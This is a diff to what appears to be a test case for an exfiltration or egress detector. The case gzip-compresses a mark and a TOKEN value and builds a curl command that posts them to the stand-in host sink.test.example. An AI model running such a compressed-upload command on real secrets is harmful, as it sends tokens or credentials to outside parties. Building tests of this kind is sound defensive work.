@@ -497,7 +497,7 @@ def token_elsewhere_in_body(mark: str) -> object:
 @case("heard")
 def token_elsewhere_compressed(mark: str) -> object:
     """The same in a compressed body."""
-    file = f"/tmp/{mark}.gz"
+    file = f"{mark}.gz"
     with open(file, "wb") as out:
         out.write(gzip.compress(f"{mark} {TOKEN}".encode()))
     return curl("--data-binary", f"@{file}", "-H", "Content-Encoding: gzip", f"https://sink.test.example/{mark}")
